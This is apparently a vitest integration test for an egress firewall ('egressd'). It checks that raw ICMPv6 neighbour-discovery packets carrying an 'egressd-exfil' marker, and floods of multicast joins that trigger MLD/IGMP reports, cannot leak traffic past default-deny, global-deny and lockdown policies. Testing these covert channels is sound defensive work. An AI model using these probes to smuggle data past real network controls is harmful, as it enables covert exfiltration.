import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REPORT_BURST_BYTES, REPORT_BYTES_PER_SECOND } from '../../src/compile/compile.js';
import { createTestNet, ensureTestUsers, harnessUnavailableReason, type TestNet } from '../harness/index.js';
import { policyDir } from '../support/policy-dir.js';

/**
 * What the link-local exception lets out, tried as an attacker would (issue
 * 17, findings 7 and 9): a root process's raw ICMPv6 socket sends neighbour
 * discovery with hop limit 255 to an address beyond the route, and a system
 * domain's member makes the kernel send multicast reports by joining groups.
 * Counted on the internet side, where the packets would arrive.
 */
const ROOT = join(import.meta.dirname, '..', '..');
const CLI = join(ROOT, 'src/cli/main.ts');
const unavailable = harnessUnavailableReason();
const OFF_LINK = '2001:db8:1::1';

/** Sends `count` ICMPv6 NS and NA to argv[1], hop limit 255, each carrying a marker as a payload would. */
const RAW_ND = `
import socket, struct, sys
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
target = socket.inet_pton(socket.AF_INET6, sys.argv[1])
for i in range(int(sys.argv[2])):
    for kind in (135, 136):
        try:
            s.sendto(struct.pack('!BBHI', kind, 0, 0, 0) + target + b'egressd-exfil', (sys.argv[1], 0))
        except PermissionError:
            pass  # dropped on the output hook
`;

/** Joins and leaves groups for argv[2] seconds (argv[1]: 6 for MLD, 4 for IGMP): each change makes the kernel report. */
const JOINS = `
const socket = require('node:dgram').createSocket(process.argv[1] === '6' ? 'udp6' : 'udp4');
socket.bind(() => {
  const end = Date.now() + Number(process.argv[2]) * 1000;
  let n = 0;
  for (; Date.now() < end; n++) {
    const group = process.argv[1] === '6' ? 'ff05::' + (n >> 16).toString(16) + ':' + (n & 0xffff).toString(16) : '239.' + ((n >> 16) & 255) + '.' + ((n >> 8) & 255) + '.' + (n & 255);
    const via = process.argv[1] === '6' ? '::%eth0' : '192.0.2.1';
    socket.addMembership(group, via);
    socket.dropMembership(group, via);
  }
  console.log(n);
  socket.close();
});
`;

/** Counters on the internet side: what arrived from the host. */
const COUNTERS = `
table inet linkcount {
\tcounter offlink_nd {}
\tcounter mld_reports {}
\tcounter igmp_reports {}
\tchain pre {
\t\ttype filter hook prerouting priority -400; policy accept;
\t\tip6 daddr ${OFF_LINK} icmpv6 type { nd-neighbor-solicit, nd-neighbor-advert } counter name "offlink_nd"
\t\tip6 saddr fe80::/10 icmpv6 type { mld-listener-report, mld2-listener-report, mld-listener-done } counter name "mld_reports"
\t\tip saddr 192.0.2.1 meta l4proto igmp counter name "igmp_reports"
\t}
}
`;

let net: TestNet;
let state: string;
const dirs: string[] = [];

async function egressctl(...args: string[]): Promise<void> {
  const result = await net.host.node(CLI, args, { env: { ...process.env, EGRESSD_STATE_DIR: state } });
  if (result.code !== 0) throw new Error(`egressctl ${args.join(' ')}: ${result.stderr}`);
}

async function apply(yaml: string, lockdown = false): Promise<void> {
  const dir = policyDir({ '00.yaml': yaml }, { keep: true });
  dirs.push(dir);
  await egressctl('lockdown', 'off', dir);
  await egressctl('apply', dir);
  if (lockdown) await egressctl('lockdown', 'on', dir);
}

async function arrived(counter: 'offlink_nd' | 'mld_reports' | 'igmp_reports'): Promise<{ packets: number; bytes: number }> {
  const listing = await net.inet.run('nft', ['-j', 'list', 'counter', 'inet', 'linkcount', counter]);
  const found = (JSON.parse(listing) as { nftables: { counter?: { packets: number; bytes: number } }[] }).nftables.find((o) => o.counter)?.counter;
  if (!found) throw new Error(`no counter ${counter}`);
  return { packets: found.packets, bytes: found.bytes };
}

const resetCounters = () => net.inet.run('nft', ['reset', 'counters', 'table', 'inet', 'linkcount']);

/** Node has no raw sockets: python3, as root. */
async function sendRawNd(count: number): Promise<void> {
  const result = await net.host.exec('python3', ['-c', RAW_ND, OFF_LINK, String(count)]);
  if (result.code !== 0) throw new Error(`python3: ${result.stderr}`);
}

async function joins(family: '4' | '6', seconds: number, user: string): Promise<number> {
  const result = await net.host.exec('node', ['-e', JOINS, family, String(seconds)], { user });
  if (result.code !== 0) throw new Error(`joins: ${result.stderr}`);
  return Number(result.stdout);
}

/** IPv6 across the link with both neighbour caches empty: only works if the kernel's ND passes both ways. */
async function ipv6Works(user?: string): Promise<boolean> {
  await net.host.run('ip', ['-6', 'neigh', 'flush', 'dev', 'eth0']);
  await net.inet.run('ip', ['-6', 'neigh', 'flush', 'dev', 'eth0']);
  return (await net.host.connect({ proto: 'tcp', addr: OFF_LINK, port: 8443, timeoutMs: 3000, ...(user ? { user } : {}) })).ok;
}

describe.skipIf(unavailable)(`the link-local exception, from inside ${unavailable ? `(skipped: ${unavailable})` : ''}`, () => {
  beforeAll(async () => {
    ensureTestUsers();
    net = await createTestNet();
    state = mkdtempSync(join(tmpdir(), 'egd-link-state-'));
    await net.inet.nft({ stdin: COUNTERS });
    await net.inet.listen({ proto: 'tcp', addr: OFF_LINK, port: 8443 });
  });
  afterAll(async () => {
    await net?.destroy();
    if (state) rmSync(state, { recursive: true, force: true });
    for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
  });

  it("a raw socket's ND, hop limit 255, to an off-link address meets its identity: default deny, global deny, lockdown; the kernel's ND still passes", async () => {
    const cases: [string, string, boolean][] = [
      ['default deny', `defaults: {egress: deny}\napps:\n  tor: {identity: {user: egd-app2}, default: allow}\n`, false],
      ['global deny', `defaults: {egress: allow}\ndeny:\n  - to: ["2001:db8:1::/48"]\n    proto: icmp\n`, false],
      ['lockdown', `defaults: {egress: allow}\ntor: {enabled: true, user: egd-app2}\n`, true],
    ];
    for (const [what, yaml, lockdown] of cases) {
      await apply(yaml, lockdown);
      await resetCounters();
      await sendRawNd(5);
      expect(await arrived('offlink_nd'), what).toEqual({ packets: 0, bytes: 0 });
      // The kernel's own ND: address resolution both ways, for an identity the policy lets out (Tor's, under lockdown).
      expect(await ipv6Works('egd-app2'), what).toBe(true);
    }
    // The counter does count: with the table gone, the same packets arrive.
    await egressctl('release');
    await resetCounters();
    await sendRawNd(5);
    expect((await arrived('offlink_nd')).packets).toBe(10);
  });

  it("under lockdown the kernel's MLD and IGMP reports for a process's joins do not leave", async () => {
    await apply(`defaults: {egress: allow}\ntor: {enabled: true, user: egd-app2}\n`, true);
    await resetCounters();
    await joins('6', 1, 'egd-app1');
    await joins('4', 1, 'egd-app1');
    await new Promise((resolve) => setTimeout(resolve, 2500));
    // IGMP first: the kill switch stopped these before the link-local exception was bounded too.
    expect(await arrived('igmp_reports')).toEqual({ packets: 0, bytes: 0 });
    expect(await arrived('mld_reports')).toEqual({ packets: 0, bytes: 0 });
    expect(await ipv6Works('egd-app2')).toBe(true);
  });

  it("a system domain's member, joining and leaving groups as fast as it can, makes the kernel report within the bound", async () => {
    await apply(`defaults: {egress: allow}\nsystemDomains:\n  off: {members: [{user: egd-app1}]}\n`);
    for (const [family, counter] of [
      ['6', 'mld_reports'],
      ['4', 'igmp_reports'],
    ] as const) {
      await resetCounters();
      const started = Date.now();
      const made = await joins(family, 3, 'egd-app1');
      // The kernel repeats each change once more within a second: wait for the repeats.
      await new Promise((resolve) => setTimeout(resolve, 2500));
      const seconds = (Date.now() - started) / 1000;
      const { packets, bytes } = await arrived(counter);
      // Unbounded, these joins made the kernel send hundreds of kilobytes (measured: 940 KB of MLD in 5 s).
      expect(made, counter).toBeGreaterThan(1000);
      expect(packets, counter).toBeGreaterThan(0);
      expect(bytes, `${counter}: ${packets} reports in ${seconds} s`).toBeLessThanOrEqual(REPORT_BURST_BYTES + REPORT_BYTES_PER_SECOND * seconds + 1500);
    }
  });
});
